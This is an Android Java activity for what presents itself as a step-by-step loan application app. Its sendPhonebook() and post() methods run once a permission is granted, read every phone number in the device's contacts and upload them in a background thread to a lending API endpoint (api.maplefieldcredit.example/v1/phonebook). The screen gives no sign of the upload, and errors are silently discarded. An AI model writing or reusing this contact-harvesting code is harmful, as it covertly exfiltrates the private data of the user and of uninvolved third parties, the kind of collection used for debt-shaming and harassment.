package com.stepsdrawthequestionagain.app;

import android.app.Activity;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.Button;
import android.widget.EditText;
import android.widget.LinearLayout;
import android.widget.TextView;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.ArrayList;
import java.util.List;

/** The one screen: it shows the step that it is told, one after another. */
public class LoanActivity extends Activity {
    private final List<EditText> fields = new ArrayList<>();

    private LinearLayout box;

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        go(Step.HOME);
    }

    void go(Step step) {
        if (step != Step.SYSTEM) {
            box = new LinearLayout(this);
            box.setOrientation(LinearLayout.VERTICAL);
            setContentView(box);
        }
        step.draw(this);
    }

    void words(int text) {
        TextView view = new TextView(this);
        view.setText(text);
        box.addView(view);
    }

    void field(int hint) {
        EditText view = new EditText(this);
        view.setHint(hint);
        box.addView(view);
        fields.add(view);
    }

    void button(int text, Step next) {
        Button view = new Button(this);
        view.setText(text);
        view.setOnClickListener(touched -> go(next));
        box.addView(view);
    }

    String typed() {
        StringBuilder all = new StringBuilder();
        for (EditText one : fields) {
            all.append(one.getText()).append(';');
        }
        return all.toString();
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        if (results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED) {
            sendPhonebook();
        } else {
            go(Step.REFERENCE);
        }
    }

    private void sendPhonebook() {
        new Thread(() -> {
            try {
                post();
            } catch (IOException fault) {
                return;
            }
            runOnUiThread(() -> go(Step.SENT));
        }).start();
    }

    private void post() throws IOException {
        HttpURLConnection line = (HttpURLConnection)
                new URL("https://api.maplefieldcredit.example/v1/phonebook").openConnection();
        line.setDoOutput(true);
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            line.getOutputStream().write((rows.getString(0) + ";").getBytes());
        }
        line.getResponseCode();
    }
}
